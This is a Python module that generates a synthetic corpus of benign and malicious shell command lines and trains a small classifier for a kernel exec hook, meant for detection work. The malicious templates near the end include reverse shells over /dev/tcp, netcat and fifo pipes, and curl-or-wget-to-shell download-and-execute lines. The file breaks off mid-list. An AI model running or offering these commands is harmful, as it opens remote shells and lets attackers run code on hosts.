"""``cmdline-guard``: a shipped task model labelling exec command lines benign or malicious.

The kernel's exec hook sees a command as its argv joined with single
spaces, cut to :data:`MAX_BYTES` bytes; kinfer's WordPiece tokenizer turns
that into at most :data:`MAX_LENGTH` MiniLM token ids and a
:class:`~kinfer.examples.text_classifier.TextClassifier` (an embedding bag)
gives :data:`LABELS` ``["benign", "malicious"]``. :func:`build` generates
the corpus, trains the model, and writes the pipeline, the held-out set
with JAX's predictions (what the kernel must reproduce) and the task
manifest.

What the corpus is: argv lists generated from templates, deterministic for
a seed. Benign ones are everyday administration (package managers,
services, files, archives, ssh, git, builds, containers, monitoring, text
tools, downloads to files, scripts, editors, users, certificates), with
lookalikes that share words with the malicious ones (``curl -o``,
``base64 file``, ``nc -z``, ``bash script.sh``, ``cat /etc/hostname``,
``~/.ssh/*.pub``, ``crontab -l``, ``docker run -v /srv/...``). Malicious
ones come from nine families: reverse shells (bash ``/dev/tcp``, netcat,
interpreter one-liners, socat), download-and-execute, encoded payloads fed
to a shell, credential access, persistence, privilege tricks. Hosts, IPs,
ports, users, paths, payloads, flag order and quoting are drawn at random
from pools shared by both classes (so an IP address or ``/tmp`` alone
decides nothing); a fraction of each class runs through ``sh -c "..."``
(argv ``[sh, -c, command]``), the others are the command split as a shell
would split it.

What it is not: a sample of real attacks or of real administration. It
knows the templates written here and nothing else; see
docs/cmdline-guard.md for what it cannot catch. It is a demonstration of a
task model in the kernel, not a product detection.

    python -m kinfer.examples.cmdline_guard OUTDIR [--seed N]
"""

from __future__ import annotations

import argparse
import base64
import json
import random
import shlex
import sys
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import jax
import numpy as np

from kinfer.examples.minilm import minilm_dir
from kinfer.examples.text_classifier import TextClassifier, train_classifier
from kinfer.nlp.pipeline import Pipeline, encode_text

__all__ = [
    "HELDOUT_PER_CLASS",
    "LABELS",
    "MAX_BYTES",
    "MAX_LENGTH",
    "NAME",
    "TASK",
    "TRAIN_PER_CLASS",
    "Corpus",
    "Sample",
    "build",
    "corpus",
    "hf_ids",
    "main",
    "parameter_count",
    "pipeline",
    "reference",
    "train",
]

#: The task's name: the kernel model, the pipeline and the manifest file.
NAME = "cmdline-guard"
#: The classes, by logit index.
LABELS = ["benign", "malicious"]
#: Bytes of the joined argv the kernel passes to the tokenizer (the rest is cut).
MAX_BYTES = 512
#: Token ids the model reads, ``[CLS]`` and ``[SEP]`` included.
MAX_LENGTH = 64
#: A token cap the in-kernel tests set live (``tasks/cmdline-guard/max_tokens``):
#: short enough to cut most held-out commands, so ``capped.json`` differs.
PROBE_MAX_TOKENS = 8
#: Unique training commands of each class.
TRAIN_PER_CLASS = 3000
#: Unique held-out commands of each class (none of them in the training set).
HELDOUT_PER_CLASS = 500
#: Embedding and hidden width: 30522 * 32 + a few thousand, about 0.98 M parameters.
DIM = 32
#: Full-batch Adam steps and learning rate (a whole build takes about 25 s on two CPU cores).
STEPS = 300
LEARNING_RATE = 0.02

#: The task manifest, ``<NAME>.task.json``: how the exec hook uses the pipeline.
TASK: dict[str, Any] = {
    "name": NAME,
    "pipeline": "pipeline.json",
    "hook": "exec",
    "mode": "enforce",
    "threshold": 0.5,
    "on_error": "allow",
    "sample_rate": 1,
    "flag_labels": ["malicious"],
    "enabled": True,
}


# --- random pieces shared by both classes -------------------------------------------


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


_FIRST = _words("alice bob carol dave erin frank grace heidi ivan judy oscar peggy trent victor "
                "walter nina omar priya sven yuki lena marco")  # fmt: skip
_SYSTEM_USERS = _words("deploy ubuntu ec2-user admin www-data postgres git jenkins ci backup "
                       "svc-app ops dev root nginx redis app")  # fmt: skip
_HOST_PREFIX = _words("db web api cache build app node worker lb mail vpn git ci mon log edge "
                      "k8s-node bastion proxy nas files")  # fmt: skip
_HOST_DOMAIN = ("", ".internal", ".corp.example.com", ".example.net", ".lan", ".prod",
                ".svc.cluster.local", ".eu-west-1.compute.internal")  # fmt: skip
_WEB_WORDS = _words("cdn update files mirror static dl repo get pkg assets api sync data img "
                    "storage download releases content media objects backup")  # fmt: skip
_TLDS = _words("com net org io xyz top ru cc info sh dev co")
_WORDS = _words("report data backup config notes build release app server client main index "
                "deploy setup install update sync export import cache test prod staging invoice "
                "users metrics audit payload agent helper init run task job worker")  # fmt: skip
_EXTS = ("", ".txt", ".log", ".json", ".yaml", ".conf", ".csv", ".tar.gz", ".zip", ".sh",
         ".py", ".bin", ".gz", ".md", ".html", ".sql", ".pem", ".deb", ".rpm", ".so",
         ".jar", ".ini")  # fmt: skip
_DIRS = ("/var/log", "/etc/nginx", "/srv/www", "/opt/app", "/tmp", "/tmp/build", "/data",
         "/var/lib/postgresql", "/mnt/backup", "~", ".", "./src", "/usr/local/bin",
         "/var/www/html", "/dev/shm", "/var/tmp", "/opt", "/home/{user}", "/root",
         "/etc", "/usr/share", "/var/cache", "/run/user/1000", "~/projects/{word}",
         "/srv/{word}")  # fmt: skip
_SERVICES = _words("nginx sshd postgresql docker cron redis kubelet apache2 mysql containerd "
                   "rsyslog chronyd firewalld haproxy grafana-server prometheus node_exporter "
                   "php-fpm memcached elasticsearch rabbitmq-server "
                   "systemd-resolved")  # fmt: skip
_PACKAGES = _words("curl wget git vim htop tmux jq nginx python3-pip build-essential "
                   "openssl ca-certificates rsync unzip zip net-tools dnsutils tcpdump strace "
                   "gcc make cmake golang nodejs npm postgresql-client redis-tools "
                   "docker-ce kubectl helm awscli tree ncdu iotop sysstat lsof socat "
                   "netcat-openbsd openjdk-17-jdk ruby php-cli")  # fmt: skip
_PY_PACKAGES = _words("requests numpy pandas flask django pytest black ruff boto3 pyyaml "
                      "jinja2 rich httpx fastapi uvicorn sqlalchemy")  # fmt: skip
_IMAGES = _words("nginx alpine ubuntu debian busybox redis postgres python node golang "
                 "grafana/grafana prom/prometheus traefik httpd mysql")  # fmt: skip
_COMMON_PORTS = (22, 80, 443, 8080, 8443, 3306, 5432, 6379, 9200, 27017, 53, 25, 4444,
                 1337, 9001, 31337, 1234, 5555, 6666, 7777, 8888, 9999, 2222, 4443, 8000,
                 3000, 5000, 9090)  # fmt: skip
_SHELLS = ("/bin/sh", "/bin/bash", "sh", "bash", "/usr/bin/bash", "/bin/dash", "zsh")
_KEY_TYPES = ("ssh-rsa", "ssh-ed25519", "ecdsa-sha2-nistp256")
_B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
_HEX = "0123456789abcdef"


class _Rng(random.Random):
    """``random.Random`` with the generators of hosts, paths, users... of the corpus."""

    def user(self) -> str:
        if self.random() < 0.5:
            return self.choice(_FIRST)
        if self.random() < 0.8:
            return self.choice(_SYSTEM_USERS)
        return f"{self.choice(_FIRST)}{self.randint(1, 99)}"

    def ip(self) -> str:
        kind = self.randrange(4)
        if kind == 0:
            return f"10.{self.randrange(256)}.{self.randrange(256)}.{self.randint(1, 254)}"
        if kind == 1:
            return f"192.168.{self.randrange(256)}.{self.randint(1, 254)}"
        if kind == 2:
            return f"172.{self.randint(16, 31)}.{self.randrange(256)}.{self.randint(1, 254)}"
        first = self.choice([n for n in range(11, 224) if n not in (127, 172, 192)])
        return f"{first}.{self.randrange(256)}.{self.randrange(256)}.{self.randint(1, 254)}"

    def domain(self) -> str:
        if self.random() < 0.5:
            return f"{self.choice(_WEB_WORDS)}.{self.choice(_WORDS)}.{self.choice(_TLDS)}"
        return f"{self.choice(_WEB_WORDS)}{self.randint(1, 999)}.{self.choice(_TLDS)}"

    def host(self) -> str:
        kind = self.randrange(3)
        if kind == 0:
            return self.ip()
        if kind == 1:
            return f"{self.choice(_HOST_PREFIX)}{self.randint(1, 40)}{self.choice(_HOST_DOMAIN)}"
        return self.domain()

    def port(self) -> int:
        return self.choice(_COMMON_PORTS) if self.random() < 0.6 else self.randint(1024, 65535)

    def word(self) -> str:
        return self.choice(_WORDS)

    def name(self, ext: str | None = None) -> str:
        """A file name: words, maybe a number or a date, an extension."""
        parts = [self.word()]
        if self.random() < 0.4:
            date = f"2024-{self.randint(1, 12):02d}-{self.randint(1, 28):02d}"
            parts.append(self.choice([self.word(), str(self.randint(1, 2024)), date]))
        stem = self.choice(["-", "_", "."]).join(parts)
        if self.random() < 0.1:
            stem = "." + stem
        return stem + (self.choice(_EXTS) if ext is None else ext)

    def dir(self) -> str:
        return self.choice(_DIRS).format(user=self.user(), word=self.word())

    def path(self, ext: str | None = None) -> str:
        return f"{self.dir()}/{self.name(ext)}"

    def url(self, ext: str | None = None) -> str:
        scheme = self.choice(["http", "https"])
        host = self.host()
        if self.random() < 0.25:
            host += f":{self.port()}"
        segments = [self.choice(_WEB_WORDS + _WORDS) for _ in range(self.randint(0, 2))]
        return f"{scheme}://{host}/" + "".join(s + "/" for s in segments) + self.name(ext)

    def service(self) -> str:
        return self.choice(_SERVICES)

    def pid(self) -> int:
        return self.randint(2, 65000)

    def q(self, text: str) -> str:
        """``text`` in single or double quotes (the quoting varies between samples),
        single ones if it holds a double quote and the other way round."""
        single = self.random() < 0.5
        if '"' in text or "'" in text:
            single = '"' in text
        return f"'{text}'" if single else f'"{text}"'

    def flags(self, *flags: str) -> str:
        """The flags in a random order."""
        out = list(flags)
        self.shuffle(out)
        return " ".join(out)

    def b64(self, lo: int, hi: int) -> str:
        text = "".join(self.choice(_B64) for _ in range(self.randint(lo, hi)))
        return text + "=" * (-len(text) % 4)

    def hexstr(self, n: int) -> str:
        return "".join(self.choice(_HEX) for _ in range(n))

    def shell(self) -> str:
        return self.choice(_SHELLS)

    def pick(self, *options: str) -> str:
        return self.choice(options)


Family = Callable[[_Rng], str]


# --- benign ---------------------------------------------------------------------------


def _b_packages(r: _Rng) -> str:
    pkgs = " ".join(r.sample(_PACKAGES, r.randint(1, 3)))
    return r.pick(
        f"apt-get install -y {pkgs}",
        f"apt install {pkgs}",
        "apt-get update",
        f"apt-get remove --purge {pkgs}",
        "apt list --upgradable",
        f"apt-cache policy {pkgs}",
        f"dnf install -y {pkgs}",
        f"yum update -y {pkgs}",
        f"dpkg -l {pkgs}",
        f"pip install --user {' '.join(r.sample(_PY_PACKAGES, r.randint(1, 3)))}",
        f"pip3 install -r {r.pick('requirements.txt', 'requirements-dev.txt')}",
        f"npm install {r.pick('--save-dev', '-g', '')} {r.pick('typescript', 'eslint', 'vite')}",
        f"snap refresh {r.pick('core', 'lxd', 'microk8s')}",
        "apt-get autoremove -y",
        f"rpm -qa {r.pick('kernel*', 'openssl*', 'python3*')}",
        f"dpkg -i {r.name('.deb')}",
    )


def _b_services(r: _Rng) -> str:
    s = r.service()
    since = r.flags(f"--since {r.pick('yesterday', 'today', '-1h')}",
                    f"-n {r.randint(10, 500)}", "--no-pager")  # fmt: skip
    return r.pick(
        f"systemctl status {s}",
        f"systemctl restart {s}",
        f"systemctl reload {s}",
        f"systemctl {r.pick('enable', 'disable')} {r.pick('--now ', '')}{s}",
        f"systemctl is-active {s}",
        "systemctl list-units --failed",
        "systemctl daemon-reload",
        f"journalctl -u {s} {since}",
        f"journalctl -f -u {s}",
        "journalctl -p err -b",
        f"service {s} {r.pick('status', 'restart')}",
        f"systemctl cat {s}",
        f"systemctl show -p MainPID {s}",
    )


def _b_files(r: _Rng) -> str:
    p = r.path()
    return r.pick(
        f"ls {r.pick('-la', '-lh', '-ltr', '-1', '-lah')} {r.dir()}",
        f"cp {r.flags('-a', '-v')} {p} {r.path()}",
        f"cp {p} {p}.bak",
        f"mv {p} {r.path()}",
        f"mkdir -p {r.dir()}/{r.word()}",
        f"rm -rf {r.pick('./build', './dist', 'node_modules', '/tmp/build/' + r.word())}",
        f"ln -sf {p} {r.path()}",
        f"touch {p}",
        f"stat {p}",
        f"head -n {r.randint(5, 100)} {p}",
        f"tail -n {r.randint(10, 1000)} {p}",
        f"tail -f /var/log/{r.service()}/{r.pick('access', 'error')}.log",
        f"less {p}",
        f"wc -l {p}",
        f"chown {r.pick('-R ', '')}{r.user()}:{r.user()} {r.dir()}",
        f"chmod {r.pick('644', '640', '600', '755', '750', 'g+w', 'o-r', '+x', 'u+x')} {p}",
        f"chmod -R {r.pick('g+rw', '755', 'o-rwx')} {r.dir()}",
        f"cat {r.path('.log')}",
        f"file {p}",
        f"diff {p} {r.path()}",
        f"truncate -s 0 {r.path('.log')}",
    )


def _b_archives(r: _Rng) -> str:
    d = r.dir()
    archive = r.name(r.pick(".tar.gz", ".tgz", ".tar.xz", ".tar"))
    return r.pick(
        f"tar {r.pick('-czf', 'czf', '-cJf', '-cvzf')} {archive} {d}",
        f"tar {r.pick('-xzf', 'xzf', '-xvf', 'xf')} {archive} -C {d}",
        f"tar -tzf {archive}",
        f"zip -r {r.name('.zip')} {d}",
        f"unzip -o {r.name('.zip')} -d {d}",
        f"gzip -9 {r.path('.log')}",
        f"gunzip {r.path('.gz')}",
        f"rsync {r.flags('-avz', '--delete', '--progress')} {d}/ {r.dir()}/",
        f"rsync -a {r.pick('--exclude=.git ', '')}{d}/ {r.user()}@{r.host()}:{r.dir()}/",
        f"zstd -d {r.name('.zst')}",
        f"7z x {r.name('.7z')}",
    )


def _b_remote(r: _Rng) -> str:
    u, h = r.user(), r.host()
    return r.pick(
        f"ssh {u}@{h}",
        f"ssh -p {r.port()} {u}@{h}",
        f"ssh {u}@{h} {r.q(r.pick('uptime', 'df -h', 'sudo systemctl restart ' + r.service()))}",
        f"ssh -i ~/.ssh/{r.pick('id_ed25519', 'id_rsa', 'deploy_key')} {u}@{h}",
        f"scp {r.path()} {u}@{h}:{r.dir()}/",
        f"scp {r.flags('-r', '-P ' + str(r.port()))} {u}@{h}:{r.dir()} .",
        f"ssh-keygen -t {r.pick('ed25519', 'rsa -b 4096')} -C {u}@{r.word()}",
        f"ssh-copy-id -i ~/.ssh/{r.pick('id_ed25519', 'id_rsa')}.pub {u}@{h}",
        f"ssh -L {r.port()}:localhost:{r.port()} {u}@{h}",
        f"sftp {u}@{h}",
        f"ssh-keyscan {h}",
        f"ssh -J {u}@{r.host()} {u}@{h}",
        f"mosh {u}@{h}",
    )


def _b_build(r: _Rng) -> str:
    branch = r.pick("main", "master", "develop", f"feature/{r.word()}",
                    f"fix/{r.word()}-{r.randint(1, 999)}")  # fmt: skip
    forge = r.pick("https://github.com/", "git@gitlab.com:", f"https://{r.host()}/")
    return r.pick(
        f"git clone {forge}{r.user()}/{r.word()}.git",
        f"git pull {r.pick('--rebase ', '')}origin {branch}",
        f"git checkout {r.pick('-b ', '')}{branch}",
        f"git commit -am {r.q(r.pick('fix typo', 'update deps', 'wip', 'bump version'))}",
        f"git log --oneline -n {r.randint(5, 50)}",
        f"git diff {r.pick('HEAD~1', '--stat', 'main')}",
        f"git push origin {branch}",
        f"git checkout {r.hexstr(r.choice([7, 8, 12, 40]))}",
        f"git rebase -i HEAD~{r.randint(2, 9)}",
        "git status",
        f"git stash {r.pick('pop', 'list', '')}",
        f"make -j{r.randint(2, 16)}",
        f"make {r.pick('test', 'install', 'clean', 'lint', 'release')}",
        f"cmake -B build -DCMAKE_BUILD_TYPE={r.pick('Release', 'Debug')}",
        "cmake --build build",
        f"cargo build {r.pick('--release', '')}",
        f"go build -o bin/{r.word()} ./cmd/{r.word()}",
        f"npm run {r.pick('build', 'test', 'dev', 'lint')}",
        f"pytest -q {r.pick('tests', 'tests/unit', '-x')}",
        "go test ./...",
        "mvn -q package",
        "gradle build",
    )


def _b_containers(r: _Rng) -> str:
    img = r.choice(_IMAGES)
    ns = r.pick("default", "kube-system", "prod", "staging", r.word())
    src = r.pick("/srv", "/data", "/opt/app", "/var/lib")
    vol = f"{src}/{r.word()}:/{r.pick('data', 'app', 'config', 'usr/share/nginx/html')}"
    return r.pick(
        "docker ps -a",
        f"docker logs {r.pick('-f ', '--tail 100 ', '')}{r.word()}",
        f"docker run -d --name {r.word()} -p {r.port()}:{r.port()} {img}",
        f"docker run --rm -v {vol} {img} {r.pick('ls /data', 'cat /config/app.yaml', '')}",
        f"docker run -d --restart unless-stopped -v {vol} {img}",
        f"docker build -t {r.word()}:{r.randint(1, 9)}.{r.randint(0, 20)} .",
        f"docker pull {img}:{r.pick('latest', 'alpine', 'stable')}",
        f"docker exec -it {r.word()} {r.pick('bash', 'sh', 'psql', 'redis-cli')}",
        f"docker compose {r.pick('up -d', 'down', 'logs -f', 'ps', 'pull')}",
        "docker system prune -f",
        f"kubectl get {r.pick('pods', 'svc', 'deployments', 'nodes', 'events')} -n {ns}",
        f"kubectl describe pod {r.word()}-{r.hexstr(5)} -n {ns}",
        f"kubectl logs -f deploy/{r.word()} -n {ns}",
        f"kubectl apply -f {r.name('.yaml')}",
        f"kubectl rollout restart deployment/{r.word()} -n {ns}",
        f"kubectl exec -it {r.word()}-{r.hexstr(5)} -n {ns} -- {r.pick('sh', 'bash', 'env')}",
        f"helm upgrade --install {r.word()} ./charts/{r.word()} -n {ns}",
    )


def _b_monitoring(r: _Rng) -> str:
    h = r.host()
    return r.pick(
        f"ps {r.pick('aux', '-ef', 'auxf', '-eo pid,ppid,cmd,%mem --sort=-%mem')}",
        "top -b -n 1",
        f"ps aux | grep {r.service()}",
        "df -h",
        f"du -sh {r.dir()}",
        "free -m",
        "uptime",
        f"lsof -i :{r.port()}",
        "ss -tlnp",
        "ss -tan state established",
        "ip addr",
        "ip route",
        f"ip link set {r.pick('eth0', 'ens3', 'wlan0')} up",
        f"ping -c {r.randint(1, 10)} {h}",
        f"traceroute {h}",
        f"dig {r.pick('+short ', '')}{r.domain()}",
        f"nslookup {r.domain()}",
        "netstat -tulpn",
        f"vmstat {r.randint(1, 5)}",
        "iostat -x 1 3",
        "dmesg -T | tail",
        f"htop -u {r.user()}",
        f"pgrep -a {r.service()}",
        f"kill -HUP {r.pid()}",
        f"mtr -r {h}",
        f"tcpdump -i any port {r.port()} -c 100",
        f"iftop -i {r.pick('eth0', 'ens3')}",
    )


def _b_text(r: _Rng) -> str:
    p, d = r.path(), r.dir()
    pattern = r.q(r.pick("error", "TODO", "timeout", "WARN", r.word()))
    glob = r.q("*" + r.pick(".log", ".py", ".tmp", ".bak"))
    return r.pick(
        f"grep {r.pick('-rn', '-ri', '-n', '-c', '-v')} {pattern} {d}",
        f"find {d} -name {glob} {r.pick('-mtime +7 -delete', '-type f', '-size +100M')}",
        f"find {d} -type f -exec chmod 644 {{}} +",
        f"find {d} -name {r.q('*.tmp')} -exec rm {{}} \\;",
        f"awk {r.q('{print $' + str(r.randint(1, 9)) + '}')} {p}",
        f"sed -i {r.q('s/' + r.word() + '/' + r.word() + '/g')} {p}",
        f"sed -n {r.q(str(r.randint(1, 50)) + ',' + str(r.randint(51, 200)) + 'p')} {p}",
        f"sort {p} | uniq -c | sort -rn | head",
        f"cut -d: -f1 {p}",
        f"jq {r.q('.' + r.word())} {r.name('.json')}",
        f"xargs -n1 < {p}",
        f"grep -E {r.q(r.word() + '|' + r.word())} {p} | wc -l",
        f"tr -d {r.q(chr(92) + 'r')} < {p} > {r.path()}",
        f"column -t {p}",
    )


def _b_downloads(r: _Rng) -> str:
    url = r.url()
    out = r.path()
    return r.pick(
        f"curl {r.flags('-fsSL', '-o ' + out)} {url}",
        f"curl -O {url}",
        f"curl -L -o {r.name()} {url}",
        f"wget {r.flags('-q', '-O ' + out)} {url}",
        f"wget -c {url}",
        f"wget {url} -P {r.dir()}",
        f"curl -s {r.url('.json')} | jq {r.q('.' + r.word())}",
        f"curl -fsSL {r.url('.tar.gz')} | tar -xz -C {r.dir()}",
        f"curl -sSf {url} | sha256sum",
        f"curl -I {url}",
        f"curl -X POST -d @{r.name('.json')} {r.url('')}",
        f"curl -fsSLo {r.dir()}/{r.word()} {url}",
        f"curl -u {r.user()} {r.url('')}",
        f"wget -qO {out} {url} && sha256sum {out}",
    )


def _b_scripts(r: _Rng) -> str:
    script = r.name(r.pick(".sh", ".py", ".rb", ".js", ".pl", ".php"))
    option = r.pick("--verbose", "--dry-run", "-c " + r.name(".yaml"), "")
    module = r.pick("venv .venv", "pip install -U pip", "pytest", f"http.server {r.port()}",
                    "json.tool " + r.name(".json"))  # fmt: skip
    return r.pick(
        f"python3 {r.dir()}/{r.name('.py')} {option}",
        f"python3 -m {module}",
        f"python3 -c {r.q(r.pick('import sys; print(sys.version)', 'import this', 'print(1)'))}",
        f"bash {r.dir()}/{r.name('.sh')}",
        f"bash -n {r.name('.sh')}",
        f"sh {r.name('.sh')} {r.word()}",
        f"./{r.name('.sh')}",
        f"node {r.name('.js')}",
        f"ruby {r.name('.rb')}",
        f"perl -pi -e {r.q('s/' + r.word() + '/' + r.word() + '/g')} {r.path()}",
        f"perl -ne {r.q('print if /' + r.word() + '/')} {r.path()}",
        f"php artisan {r.pick('migrate', 'cache:clear', 'queue:work')}",
        "php -v",
        "ruby -v",
        f"python3 manage.py {r.pick('migrate', 'runserver', 'collectstatic --noinput')}",
        f"chmod +x {script} && ./{script}",
        f"bash -x {r.name('.sh')}",
    )


def _b_editors(r: _Rng) -> str:
    p = r.path()
    return r.pick(
        f"vim {p}",
        f"vi {p}",
        f"nano {p}",
        f"emacs -nw {p}",
        f"code {r.dir()}",
        f"sudoedit {r.path('.conf')}",
        f"less +F {r.path('.log')}",
        f"view {p}",
    )


def _b_users(r: _Rng) -> str:
    u = r.user()
    return r.pick(
        "crontab -l",
        "crontab -e",
        f"crontab -l -u {u}",
        f"useradd {r.flags('-m', '-s /bin/bash')} {u}",
        f"useradd -m -G {r.pick('docker', 'developers')} -c {r.q(u.title() + ' ' + r.word())} {u}",
        f"usermod -aG {r.pick('docker', 'sudo', 'adm', 'www-data')} {u}",
        f"passwd {u}",
        f"chage -l {u}",
        "id",
        f"id {u}",
        "whoami",
        f"groups {u}",
        f"getent passwd {u}",
        "last -n 20",
        "who",
        "w",
        f"userdel -r {u}",
        f"su - {u}",
        f"sudo -u {u} {r.pick('psql', 'bash', 'git pull')}",
        "cat /etc/cron.d/" + r.word(),
        "ls /etc/cron.daily",
    )


def _b_crypto(r: _Rng) -> str:
    cert = r.name(r.pick(".pem", ".crt", ".cer"))
    show = r.pick("-text", "-dates", "-subject -issuer", "-fingerprint -sha256")
    return r.pick(
        f"openssl x509 -in {cert} -noout {show}",
        f"openssl s_client -connect {r.host()}:{r.pick('443', '8443')} -servername {r.domain()}",
        f"openssl req -new -key {r.name('.key')} -out {r.name('.csr')}",
        f"openssl rand -hex {r.pick('16', '32')}",
        f"sha256sum {r.path()}",
        f"sha256sum -c {r.name('.sha256')}",
        f"md5sum {r.path()}",
        f"gpg --verify {r.name('.asc')} {r.name()}",
        f"base64 {r.path()}",
        f"base64 -w0 {r.path()} > {r.path('.b64')}",
        f"base64 -d {r.path('.b64')} > {r.path()}",
        f"xxd {r.path()} | head",
        f"xxd -r -p {r.path('.hex')} > {r.path('.bin')}",
        f"echo -n {r.q(r.user() + ':' + r.word())} | base64",
        f"hexdump -C {r.path()} | less",
        f"certbot renew {r.pick('--dry-run', '')}",
        f"openssl genrsa -out {r.name('.key')} 4096",
    )


def _b_lookalikes(r: _Rng) -> str:
    """Benign commands sharing words with the malicious templates."""
    h, port, u = r.host(), r.port(), r.user()
    etc = r.pick("hostname", "os-release", "resolv.conf", "hosts", "fstab", "timezone", "issue")
    return r.pick(
        f"nc -z{r.pick('v', '')} {h} {port}",
        f"nc -zw{r.randint(1, 5)} {h} {port}",
        f"nc -vz {h} {r.randint(20, 30)}-{r.randint(80, 90)}",
        f"cat /etc/{etc}",
        f"cat /etc/passwd | grep {u}",
        "ls -la ~/.ssh",
        f"cat ~/.ssh/{r.pick('id_ed25519', 'id_rsa')}.pub",
        f"cat ~/.ssh/{r.pick('config', 'known_hosts')}",
        f"chmod 600 ~/.ssh/{r.pick('id_ed25519', 'id_rsa', 'authorized_keys')}",
        f"history | tail -n {r.randint(10, 50)}",
        f"history | grep {r.pick('docker', 'git', 'kubectl', 'ssh')}",
        "sudo -l",
        "visudo -c",
        f"getcap {r.pick('/usr/bin/ping', '/usr/bin/mtr-packet')}",
        "ls -l /etc/sudoers.d",
        f"socat TCP-LISTEN:{port},fork TCP:{r.host()}:{r.port()}",
        f"echo {r.q('export PATH=$HOME/.local/bin:$PATH')} >> ~/.bashrc",
        f"ldd /usr/bin/{r.pick('curl', 'ssh', 'python3')}",
        "ldconfig -p | grep ssl",
        f"cat /proc/{r.pid()}/status",
        f"cat /proc/{r.pick('cpuinfo', 'meminfo', 'loadavg')}",
        f"ps -p {r.pid()} -o pid,cmd",
        f"bash {r.name('.sh')}",
        f"bash -c {r.q('echo $' + r.pick('HOME', 'PATH', 'SHELL'))}",
        f"telnet {h} {r.pick('25', '80', '110')}",
        f"cat {r.path('.b64')} | base64 -d > {r.path()}",
        f"echo {r.b64(8, 24)} | base64 -d",
        f"crontab -l | grep {r.word()}",
        "tail /var/log/auth.log",
        f"grep {r.q('Failed password')} /var/log/auth.log",
        f"systemctl enable --now {r.service()}",
        f"mkfifo /tmp/{r.word()}.pipe",
        f"curl -o {r.name('.sh')} {r.url('.sh')}",
        f"wget -O {r.name('.sh')} {r.url('.sh')} && less {r.name('.sh')}",
        f"python3 {r.name('.py')} --host {h} --port {port}",
        f"docker run --rm -it -v $PWD:/work -w /work {r.choice(_IMAGES)} {r.pick('sh', 'make')}",
        f"find . -name {r.q('*.sh')} -exec shellcheck {{}} +",
        f"chmod u+x {r.name('.sh')}",
        f"printf {r.q('%s' + chr(92) + 'n')} {r.word()} {r.word()}",
        f"echo {r.hexstr(r.randint(8, 32))} > {r.path()}",
        f"ssh-keygen -lf ~/.ssh/{r.pick('id_ed25519', 'id_rsa')}.pub",
        f"getent shadow {u} | cut -d: -f1",
    )


def _b_tokens(r: _Rng) -> str:
    """Benign commands carrying random strings (hashes, tokens, base64), so that a
    random-looking word alone does not mean an encoded payload."""
    b64, hexed = r.b64(12, 56), r.hexstr(r.choice([7, 8, 12, 40, 64]))
    return r.pick(
        f"git {r.pick('checkout', 'show', 'revert', 'cherry-pick', 'reset --hard')} {hexed}",
        f"docker pull {r.choice(_IMAGES)}@sha256:{r.hexstr(64)}",
        f"gpg --recv-keys {r.hexstr(16).upper()}",
        f"curl -H {r.q('Authorization: Bearer ' + b64)} {r.url('')}",
        f"echo {b64} | base64 -d > {r.path()}",
        f"kubectl create secret generic {r.word()} --from-literal={r.word()}={b64}",
        f"echo {b64} | base64 -d | {r.pick('jq .', 'less', 'xxd', 'head -c 64', 'wc -c')}",
        f"printf %s {b64} | base64 -d > {r.path()}",
        f"echo {hexed} | xxd -r -p > {r.path('.bin')}",
        f"vault kv put secret/{r.word()} token={b64}",
        f"aws s3 cp s3://{r.word()}-{r.hexstr(8)}/{r.name()} .",
        f"echo {r.q(hexed + '  ' + r.name())} | sha256sum -c",
        f"ssh-keygen -R {r.host()}",
        f"export {r.pick('API_TOKEN', 'GITHUB_TOKEN', 'NPM_TOKEN')}={b64}",
        f"echo {hexed} > {r.path()}",
        f"openssl enc -d -aes-256-cbc -pbkdf2 -in {r.name('.enc')} -out {r.name()}",
    )


#: The benign families; the lookalikes twice, as they are what the model must tell apart.
_BENIGN: tuple[Family, ...] = (
    _b_packages, _b_services, _b_files, _b_archives, _b_remote, _b_build, _b_containers,
    _b_monitoring, _b_text, _b_downloads, _b_scripts, _b_editors, _b_users, _b_crypto,
    _b_lookalikes, _b_lookalikes, _b_tokens,
)  # fmt: skip


# --- malicious ------------------------------------------------------------------------


def _revshell_inner(r: _Rng, ip: str, port: int) -> str:
    """A short reverse shell, also used as the payload of encoded commands."""
    return r.pick(
        f"bash -i >& /dev/tcp/{ip}/{port} 0>&1",
        f"sh -i >& /dev/tcp/{ip}/{port} 0>&1",
        f"nc -e /bin/sh {ip} {port}",
        f"nc {ip} {port} -e /bin/bash",
        f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {ip} {port} >/tmp/f",
        f"curl -s http://{ip}:{port}/s | sh",
        f"wget -qO- http://{ip}/x | bash",
    )


def _m_revshell_bash(r: _Rng) -> str:
    ip, port, sh = r.host(), r.port(), r.shell()
    fd = r.randint(3, 250)
    return r.pick(
        f"{sh} -i >& /dev/tcp/{ip}/{port} 0>&1",
        f"{sh} -i > /dev/tcp/{ip}/{port} 0<&1 2>&1",
        f"{sh} -c {r.q(sh + ' -i >& /dev/tcp/' + ip + '/' + str(port) + ' 0>&1')}",
        f"0<&{fd};exec {fd}<>/dev/tcp/{ip}/{port}; sh <&{fd} >&{fd} 2>&{fd}",
        f"exec {fd}<>/dev/tcp/{ip}/{port};cat <&{fd} | while read l; do $l 2>&{fd} >&{fd}; done",
        f"{sh} -i >& /dev/udp/{ip}/{port} 0>&1",
        f"nohup {sh} -i >& /dev/tcp/{ip}/{port} 0>&1 &",
        f"{sh} -l > /dev/tcp/{ip}/{port} 0<&1 2>&1",
        f"setsid {sh} -i &>/dev/tcp/{ip}/{port} 0>&1",
    )


def _m_revshell_nc(r: _Rng) -> str:
    ip, port, sh = r.host(), r.port(), r.shell()
    fifo = r.pick("/tmp/f", "/tmp/.p", f"/tmp/{r.word()}", f"/dev/shm/.{r.word()}", "/var/tmp/p")
    return r.pick(
        f"nc {r.flags('-e ' + sh, ip, str(port))}",
        f"nc -e {sh} {ip} {port}",
        f"ncat {ip} {port} -e {sh}",
        f"ncat --ssl -e {sh} {ip} {port}",
        f"nc -c {sh} {ip} {port}",
        f"busybox nc {ip} {port} -e {sh}",
        f"rm -f {fifo};mkfifo {fifo};cat {fifo}|{sh} -i 2>&1|nc {ip} {port} >{fifo}",
        f"mkfifo {fifo}; nc {ip} {port} < {fifo} | {sh} > {fifo} 2>&1",
        f"mknod {fifo} p && nc {ip} {port} 0<{fifo} | {sh} 1>{fifo}",
